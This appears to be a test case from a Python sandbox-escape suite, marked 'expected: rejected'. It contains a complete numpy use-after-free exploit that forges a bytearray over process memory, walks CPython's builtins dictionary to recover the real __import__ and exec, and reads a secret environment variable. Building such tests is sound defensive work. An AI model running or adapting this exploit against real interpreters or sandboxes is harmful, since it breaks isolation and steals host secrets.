# id: data-ndarray-resize-use-after-free
# category: data
# technique: ndarray.resize(refcheck=False) frees the memory a view still reads; numpy's next object array of that size takes the block, and the view writes an object address into it: a forged bytearray over all memory, then the real __import__ and exec
# success: the host's environment is read through the real __import__ and exec
# expected: rejected
import json
import struct

import numpy as np

fake = bytearray(struct.pack("<7Q", 1 << 20, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0))
fake_addr = np.frombuffer(fake, np.uint8).ctypes.data


def obj_at(address):
    for _ in range(8):
        array = np.zeros(64, dtype=np.uint64)
        view = array[:]
        array.resize(200000, refcheck=False)
        objects = np.full(64, None, dtype=object)
        if int(view[0]) == id(None):
            view[0] = address
            held = objects[0]
            view[0] = id(None)
            return held
    raise ValueError("the freed block was not reused")


mem = obj_at(fake_addr)


def u64(address):
    return int.from_bytes(mem[address:address + 8], "little")


builtins_dict = u64(id(json.dumps) + 24)
keys = u64(builtins_dict + 32)
log2_index_bytes, kind = mem[keys + 9], mem[keys + 10]
nentries = u64(keys + 24)
width = 16 if kind else 24
start = keys + 32 + (1 << log2_index_bytes)
found = {}
for i in range(nentries):
    entry = start + i * width + width - 16
    for name in ("exec", "__import__"):
        if u64(entry) == id(name):
            found[name] = obj_at(u64(entry + 8))
g = {"__builtins__": {"__import__": found["__import__"]}}
found["exec"]("import os\nenv = os.environ.get(%r)" % {{SECRET_ENV}}, g)
print(g["env"])
